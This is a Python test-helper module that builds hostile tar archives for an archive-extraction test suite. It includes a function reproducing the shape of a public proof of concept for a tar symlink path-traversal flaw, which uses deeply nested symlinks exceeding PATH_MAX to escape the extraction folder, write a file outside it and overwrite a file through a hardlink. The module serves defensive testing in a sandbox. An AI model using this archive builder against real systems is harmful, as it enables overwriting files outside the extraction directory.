"""Builders of hostile and benign tar archives, shared by tests/data/test_archives.py and the archive drill.

The archives are built member by member (``tarfile.add`` would normalise names, links and types), in the
shapes of real attacks; ``snapshot`` records a sandbox before and after an extraction.
"""

from __future__ import annotations

import io
import json
import os
import stat
import tarfile
from pathlib import Path

# from the extraction folder (CACHE/extracted/.extract-X) up to the sandbox that holds the cache
UP = 3


def add(tar: tarfile.TarFile, name: str, kind: bytes = tarfile.REGTYPE, data: bytes | None = None,
        link: str = "", **attrs) -> None:
    """Append one member exactly as given (tarfile.add would normalise it)."""
    info = tarfile.TarInfo(name)
    info.type, info.linkname = kind, link
    for key, value in attrs.items():
        setattr(info, key, value)
    if data is not None:
        info.size = len(data)
    tar.addfile(info, io.BytesIO(data) if data is not None else None)


def make_tar(path: Path, build, mode: str = "w") -> Path:
    with tarfile.open(path, mode, format=tarfile.PAX_FORMAT) as tar:
        build(tar)
    return path


def snapshot(root: Path, *exclude: Path) -> dict[str, tuple]:
    """Every entry under ``root`` but ``exclude``: type, content (files) or target (links), mtime."""
    seen = {}
    for folder, dirs, files in os.walk(root):
        dirs[:] = [d for d in dirs if Path(folder) / d not in exclude]
        for name in dirs + files:
            p = Path(folder) / name
            st = os.lstat(p)
            if stat.S_ISREG(st.st_mode):
                what = ("file", p.read_bytes())
            elif stat.S_ISLNK(st.st_mode):
                what = ("link", os.readlink(p))
            else:
                what = ("other", stat.S_IFMT(st.st_mode))
            seen[str(p.relative_to(root))] = (*what, st.st_mtime_ns)
    return seen


def completion(target: Path) -> dict:
    return json.loads((target / ".complete").read_text())


def cve_2025_4517(tar: tarfile.TarFile) -> None:
    """The public proof of concept's shape, aimed at the sandbox (UP levels above the extraction folder).

    ``a -> ddd..`` in every one of 16 nested 247-character folders makes ``a/b/.../p/lll..`` resolve to a
    path longer than PATH_MAX, where an unfixed ``os.path.realpath`` stops resolving; ``escape`` then
    points ``UP`` levels above the extraction folder while looking inside it.
    """
    comp, steps, path = "d" * 247, "abcdefghijklmnop", ""
    for s in steps:
        add(tar, os.path.join(path, comp), tarfile.DIRTYPE)
        add(tar, os.path.join(path, s), tarfile.SYMTYPE, link=comp)
        path = os.path.join(path, comp)
    chain = os.path.join(*steps, "l" * 254)
    add(tar, chain, tarfile.SYMTYPE, link="../" * len(steps))
    add(tar, "escape", tarfile.SYMTYPE, link=chain + "/.." * UP)
    add(tar, "escape/outside/pwned.txt", data=b"written outside\n")  # a new file outside
    add(tar, "flaglink", tarfile.LNKTYPE, link="escape/victim.txt")  # a hardlink to a file outside ...
    add(tar, "flaglink", data=b"overwritten\n")  # ... written through
